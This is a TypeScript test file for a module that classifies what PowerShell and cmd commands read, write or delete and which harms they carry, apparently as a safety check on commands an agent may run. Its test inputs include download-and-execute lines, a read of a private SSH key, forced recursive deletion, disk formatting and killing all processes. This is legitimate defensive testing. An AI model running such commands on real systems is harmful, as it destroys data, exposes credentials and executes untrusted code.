// PowerShell and cmd: verbs, paths and harms of a smaller grammar.
import { describe, expect, it } from "vitest";
import { accesses, doubts, harms, measured, shell } from "./host-environment.ts";
import { knowledgeOf } from "./knowledge.ts";

const powershell = (command: string) => measured({ tool: "powershell", input: { command } });

describe("PowerShell", () => {
	it.each([
		["full parameters", "Remove-Item -Recurse -Force src", ["delete src/**"]],
		["parameters after the path", "Remove-Item src -Recurse", ["delete src/**"]],
		["cut short", "ri src -r -fo", ["delete src/**"]],
		["in any case", "REMOVE-ITEM -PATH a", ["delete a"]],
		["-LiteralPath", "Remove-Item -LiteralPath 'a'", ["delete a"]],
		["several", "rm a,b", ["delete a", "delete b"]],
		["aliases", "del a; erase b; rd src", ["delete a", "delete b", "delete src"]],
		["a variable", "$x = 'src'; Remove-Item $x", ["delete src"]],
		["an environment variable", "Remove-Item $env:HOME/x", ["delete ~/x"]],
		["home", "Get-Content ~/.ssh/id_rsa", ["read ~/.ssh/id_rsa"]],
		["$HOME", 'cat "$HOME/.ssh/id_rsa"', ["read ~/.ssh/id_rsa"]],
		["a block", "if ($true) { Remove-Item a }", ["delete a"]],
		["a loop", "foreach ($i in 1..3) { Remove-Item a }", ["delete a"]],
		["a pipe", "Get-Content a | Set-Content b", ["read a", "write! b"]],
		["a subexpression", "Write-Host $(Remove-Item a)", ["delete a"]],
		["redirection", "'x' > f", ["write! f"]],
		["appending", "echo x >> f", ["write f"]],
		["Out-File", "'x' | Out-File -FilePath f", ["write! f"]],
		["copying", "Copy-Item a -Destination b", ["read a", "write! b"]],
		["moving", "Move-Item a b", ["delete a/**", "write! b"]],
		["a switch before the operands", "Select-String -CaseSensitive x f", ["read f"]],
		["a new item", "New-Item -ItemType Directory -Path x", ["write x"]],
		["a directory", "Set-Location src; Remove-Item one.ts", ["delete src/one.ts"]],
		["a wildcard", "Remove-Item src/*.ts", ["delete src/**"]],
		["a download", "Invoke-WebRequest https://h -OutFile f", ["write! f"]],
		["another program", "git rm a", ["delete a"]],
		["the call operator", "& git rm a", ["delete a"]],
		["a backtick", "Remove-`Item a", ["delete a"]],
		["text that is run", "Invoke-Expression 'Remove-Item a'", ["delete a"]],
		["a here-string", "$x = @'\nRemove-Item a\n'@\niex 'Remove-Item b'", ["delete b"]],
	])("%s: %s", (_what, command, expected) => {
		expect(accesses(powershell(command))).toEqual(expected);
	});

	it.each([
		["Remove-Item -Recurse src", "recursive-delete"],
		["rd -r src", "recursive-delete"],
		["Remove-Item -Force a", "force-delete"],
		["iex (iwr https://h)", "run-unknown-text"],
		["iwr https://h | iex", "run-unknown-text"],
		["Invoke-Expression $x", "run-unknown-text"],
		["Stop-Computer", "power-off"],
		["Format-Volume -DriveLetter C", "format-disk"],
		["git push --force", "git-force-push"],
		["Clear-History", "clear-history"],
		["npx -y pi -p hi", "nested-agent"],
		["Start-Process pwsh -Verb RunAs", "privilege"],
		["sc.exe stop x", "system-service"],
		["Stop-Process -Name * -Force", "kill-all"],
	])("%s: %s", (command, effect) => {
		expect(harms(powershell(command))).toContain(effect);
	});

	it.each([
		"Remove-Item $x",
		"$x = gci; Remove-Item $x",
		"$x = 'a'; $x = gci; Remove-Item $x",
		"gci src |\n Remove-Item",
		"foreach ($x in 'a', 'b') { Move-Item $x /tmp }",
		"(gci src).Delete()",
	])("removes unknown paths: %s", (command) => {
		expect(harms(powershell(command))).toContain("recursive-delete");
		expect(doubts(powershell(command)).length).toBeGreaterThan(0);
	});

	it.each([
		"Get-ChildItem -Recurse",
		"Get-Content a | Select-String x",
		"ls",
		"git status",
		"Get-Process | Where-Object { $_.CPU -gt 10 }",
		"$x = 1; $x + 2",
		"Test-Path a",
		"Write-Host hi",
		"Remove-Item a -WhatIf",
	])("only reads: %s", (command) => {
		expect(knowledgeOf(powershell(command))).toBe("reads");
	});

	it.each([
		"[IO.File]::Delete('a')",
		"$x.Delete()",
		"& $x",
		"Frobnicate-Item a",
		"Get-ChildItem | Remove-Item",
		"Remove-Item $x",
	])("has unknown effects: %s", (command) => {
		expect(doubts(powershell(command)).length).toBeGreaterThan(0);
		expect(knowledgeOf(powershell(command))).not.toBe("reads");
	});

	it.each([
		"'".repeat(5000),
		"{".repeat(5000),
		"$(".repeat(2000),
		"a;".repeat(20_000),
		"`".repeat(1001),
		"@'\n",
		"\u0000",
	])("does not throw on malformed text", (command) => {
		expect(() => powershell(command)).not.toThrow();
	});
});

describe("PowerShell and cmd started from a shell", () => {
	it.each([
		["pwsh -Command 'Remove-Item a'", "delete a"],
		['powershell.exe -NoProfile -c "Remove-Item a"', "delete a"],
		["pwsh -c Remove-Item a", "delete a"],
		["cmd /c 'del /q a'", "delete a"],
		['cmd.exe /C "rd /s /q src"', "delete src/**"],
		["cmd //c 'type a > f'", "write! f"],
		["cmd /c 'echo x & del a'", "delete a"],
		["cmd /c 'if exist a del a'", "delete a"],
		["cmd /c 'if exist a (echo x & del a)'", "delete a"],
		["cmd /c 'for %i in (a) do del b'", "delete b"],
		["cmd /c 'set x=a& del %x%'", "delete a"],
		["echo 'Remove-Item a' | pwsh -c -", "delete a"],
	])("%s", (command, expected) => {
		if (command.endsWith("-c -"))
			expect(doubts(shell(command)).length + accesses(shell(command)).length).toBeGreaterThan(0);
		else expect(accesses(shell(command))).toContain(expected);
	});
});
